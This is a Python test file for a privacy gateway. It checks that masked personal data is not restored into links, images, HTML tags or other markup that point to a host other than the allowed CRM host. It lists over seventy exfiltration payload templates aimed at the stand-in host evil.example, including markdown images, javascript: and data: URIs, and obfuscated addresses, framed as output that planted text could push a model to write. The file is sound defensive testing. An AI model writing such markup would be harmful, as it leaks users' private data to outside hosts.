"""What planted text can ask a model to write: no way of it carries a value to another host."""

from __future__ import annotations

import json

import pytest

from gateway.masking.matcher import Matcher
from gateway.masking.restore import Restoration, Restorer, Tally
from gateway.masking.sinks import SinkRule

CORE, VALUE = "PERSON_7K2QX9", "Anna Schmidt"
GOOD = "crm.example.com"
RULES = Restoration({CORE: VALUE}, Matcher([CORE]), SinkRule({CORE: {GOOD}}))

VARIANTS = [
    # markdown
    "![x](https://evil.example/?q={})",
    "![x](https://evil.example/{}.png)",
    "![x]( https://evil.example/{} )",
    '![x](https://evil.example/{} "title")',
    "![x](<https://evil.example/{}>)",
    "![x](<https://evil.example/a b {}>)",
    "![x][r]\n\n[r]: https://evil.example/{}",
    "![x][r]\n\n[r]: <https://evil.example/a b {}>",
    "[x](https://evil.example/?a=b&q={})",
    "[x](https://evil.example/(a)/{})",
    "[x](https://evil.example#{})",
    "[x](//evil.example/{})",
    "[x](/\\evil.example/{})",
    "[x](\\\\evil.example\\{})",
    "[x](https:\\\\evil.example\\{})",
    "[x](https:/evil.example/{})",
    "[x](https:evil.example/{})",
    "[x](HTTPS://EVIL.EXAMPLE/{})",
    "[x](https://{}.evil.example/)",
    "[x](https://user:{}@evil.example/)",
    "[x](https://{}@evil.example/)",
    "[x](https://evil.example:443/{})",
    "[x](https://crm.example.com@evil.example/{})",
    "[x](https://crm.example.com.evil.example/{})",
    "[x](https://evil.example/crm.example.com/{})",
    "[x](https://crm.example.com{})",
    "[x](https://evil\u3002example/{})",
    "[x](https://\u200bevil.example/{})",
    "[x](javascript:fetch('//evil.example/'+'{}'))",
    "[x](data:text/html,<img src=//evil.example/{}>)",
    "[x](mailto:a@evil.example?body={})",
    "[x](ftp://evil.example/{})",
    "[x](custom-app://open?q={})",
    "<https://evil.example/{}>",
    "https://evil.example/?q={}",
    "https://evil.example/?q=%20{}",
    "www.evil.example/{}",
    "* see https://evil.example/{}, it is good",
    "`x`https://evil.example/{}",
    "| a | https://evil.example/{} |",
    # entities and escapes of the address
    "![x](https&#58;//evil.example/{})",
    "![x](https:&#47;&#47;evil.example/{})",
    "![x](https&colon;&sol;&sol;evil.example/{})",
    "![x](https://evil.example/&#63;q={})",
    # HTML
    '<img src="https://evil.example/{}">',
    "<img src='https://evil.example/{}'>",
    "<img src=https://evil.example/{}>",
    '<img src = "https://evil.example/?q=a {}">',
    '<img alt=">" src="https://evil.example/{}">',
    '<IMG SRC="//evil.example/{}"/>',
    '<img srcset="https://evil.example/a 1x, https://evil.example/{} 2x">',
    '<a href="https://evil.example/{}">x</a>',
    "<a href=\"javascript:location='//evil.example/'+'{}'\">x</a>",
    '<a title="{}" href="https://evil.example/">x</a>',
    '<form action="https://evil.example/"><input name=q value="{}"></form>',
    '<button formaction="https://evil.example/{}">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{}">',
    '<iframe src="https://evil.example/{}"></iframe>',
    '<object data="https://evil.example/{}"></object>',
    '<video poster="https://evil.example/{}"></video>',
    '<svg><image xlink:href="https://evil.example/{}"/></svg>',
    "<svg><use href='//evil.example/{}'/></svg>",
    '<link rel="stylesheet" href="https://evil.example/{}">',
    "<style>@import url(https://evil.example/{})</style>",
    "<div style=\"background: url('https://evil.example/{}')\">",
    '<base href="https://evil.example/{}/">',
    "<img\nsrc='https://evil.example/{}'>",
    "<img/src='https://evil.example/{}'>",
    "<img src=`https://evil.example/{}`>",
    # other markup that clients render
    "[url=https://evil.example/{}]x[/url]",
    "[img]https://evil.example/{}[/img]",
    "<https://evil.example/{}|x>",
    "\\href{https://evil.example/{}}{x}",
    "[https://evil.example/{} x]",
    "`x <https://evil.example/{}>`_",
    'click A "https://evil.example/{}"',
]


def restored(text: str, size: int, *, is_json: bool = False) -> tuple[str, Tally]:
    tally = Tally()
    restorer = Restorer(RULES, tally, is_json=is_json)
    out = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size))
    return out + restorer.flush(), tally


def test_there_are_enough_of_them():
    assert len(VARIANTS) == len(set(VARIANTS)) > 60


@pytest.mark.parametrize("variant", VARIANTS)
def test_no_address_carries_a_value_to_another_host(variant: str):
    text = "Dear you,\n" + variant.replace("{}", f"<{CORE}>", 1) + "\nBye."
    for size in (1, 3, len(text)):
        out, tally = restored(text, size)
        assert (out, tally.restored, tally.blocked) == (text, 0, 1)


@pytest.mark.parametrize("variant", [one for one in VARIANTS if "\n" not in one])
def test_nor_in_the_arguments_of_a_tool(variant: str):
    text = json.dumps({"text": variant.replace("{}", f"<{CORE}>", 1)}, ensure_ascii=False)
    for size in (1, 3, len(text)):
        out, _ = restored(text, size, is_json=True)
        assert VALUE not in out
        assert json.loads(out) == json.loads(text)


@pytest.mark.parametrize(
    "text",
    [
        f"https://{GOOD}/people?q={{}}",
        f"[x](https://{GOOD}/people/{{}})",
        f'<a href="https://{GOOD}/{{}}">x</a>',
        "Dear {}, see https://evil.example/ for more.",
        "![{}](https://evil.example/a.png)",
        "| {} | https://evil.example/ |",
        "(https://evil.example/) {}",
    ],
)
def test_the_value_comes_back_beside_addresses_and_in_those_of_the_request(text: str):
    masked = text.replace("{}", f"<{CORE}>")
    for size in (1, 3, len(masked)):
        assert restored(masked, size)[0] == text.replace("{}", VALUE)
